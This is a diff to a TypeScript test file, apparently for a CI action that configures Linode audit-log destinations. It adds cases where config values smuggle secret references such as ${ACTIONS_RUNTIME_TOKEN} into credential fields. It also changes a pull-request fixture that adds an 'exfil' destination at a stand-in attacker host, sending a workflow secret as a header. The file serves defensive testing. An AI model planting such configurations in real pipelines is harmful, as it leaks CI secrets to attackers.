@@ -270,6 +270,8 @@ const SPELLINGS: Array<{ name: string; config: string; at: string[] }> = [
   { name: 'a merge key <<: into the details', config: plant('      endpoint_url: https://siem.example.com/ingest', '      <<: { endpoint_url: "${INPUT_TOKEN}" }'), at: ['<<:'] },
   { name: 'a stream label: ${INPUT_TOKEN}:', config: plant('  linode-audit:\n', '  ${INPUT_TOKEN}:\n'), at: ['  ${INPUT_TOKEN}:'] },
   { name: 'a destination label, double-quoted with an escape', config: plant('  siem:\n', '  "\\x24{SIEM_PASSWORD}":\n').replace('destination: siem', 'destination: "\\x24{SIEM_PASSWORD}"'), at: ['"\\x24{SIEM_PASSWORD}":', 'destination: "'] },
+  { name: 'a credential field naming the Linode token: a header value ${INPUT_TOKEN}', config: plant('          value: ${SIEM_TENANT_TOKEN}', '          value: ${INPUT_TOKEN}'), at: ['value: ${INPUT_TOKEN}'] },
+  { name: 'a credential field naming a runner variable: basic_authentication_password ${ACTIONS_RUNTIME_TOKEN}', config: plant('basic_authentication_password: ${SIEM_PASSWORD}', 'basic_authentication_password: ${ACTIONS_RUNTIME_TOKEN}'), at: ['basic_authentication_password: $'] },
   { name: 'buckets.<name>.region: ${INPUT_TOKEN}', config: BASE + 'buckets:\n  my-audit-logs-bucket:\n    region: ${INPUT_TOKEN}\n    s3_credentials:\n      access_key_id: ${S3_ADMIN_KEY_ID}\n      secret_access_key: ${S3_ADMIN_SECRET_KEY}\n', at: ['region: ${'] },
 ];
 
@@ -346,8 +348,9 @@ describe('finding 4: verify-destinations on a pull request', () => {
       .replace(
         'streams:\n',
         `  stable:\n    type: custom_https\n    details:\n      endpoint_url: ${LIVE.stable.endpoint_url}\n      data_compression: gzip\n      authentication: { type: none }\n      custom_headers:\n        - name: X-Hook\n          value: \${DEPLOY_WEBHOOK_SECRET}\n` +
-          // A new destination of the author's: the verifier would POST to it with the Linode token as a header.
-          `  exfil:\n    type: custom_https\n    details:\n      endpoint_url: https://exfil.mallory.example/new\n      data_compression: gzip\n      authentication: { type: none }\n      custom_headers:\n        - name: X-Token\n          value: \${INPUT_TOKEN}\nstreams:\n`,
+          // A new destination of the author's: the verifier would POST to it with a workflow secret as a header
+          // (the Linode token itself, ${INPUT_TOKEN}, is refused outright: see below).
+          `  exfil:\n    type: custom_https\n    details:\n      endpoint_url: https://exfil.mallory.example/new\n      data_compression: gzip\n      authentication: { type: none }\n      custom_headers:\n        - name: X-Token\n          value: \${S3_ADMIN_SECRET_KEY}\nstreams:\n`,
       );
     const { run } = await planPullRequest(config, { 'verify-destinations': 'true' });
     expect(run.outputs.plan, run.stdout.slice(-3000)).toBeDefined();
